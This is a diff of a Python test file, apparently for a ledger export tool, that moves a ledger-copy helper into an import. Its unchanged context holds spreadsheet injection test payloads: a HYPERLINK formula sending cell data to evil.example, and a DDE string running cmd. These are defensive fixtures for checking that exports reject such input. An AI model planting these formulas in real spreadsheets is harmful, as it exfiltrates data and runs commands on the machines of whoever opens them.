@@ -28,6 +28,7 @@ import pytest
 from markdown_it import MarkdownIt
 from openpyxl import load_workbook
 from tests.conftest import RunKs, assert_refused, ks_executable
+from tests.test_e2e import copy_ledger
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
 DDE = "=cmd|' /C calc'!A0"
@@ -41,17 +42,6 @@ FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 RAW_CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
 AS_OF = ("--as-of", "2022-09-10")
 SINCE = ("--since", "2022-08-31")
-
-
-def copy_ledger(source: Path, target: Path) -> Path:
-    """A consistent one-file copy of a (WAL) ledger through SQLite's backup API."""
-    src, dst = sqlite3.connect(source), sqlite3.connect(target)
-    try:
-        src.backup(dst)
-    finally:
-        dst.close()
-        src.close()
-    return target
 
 
 def ok(result: Any) -> str:
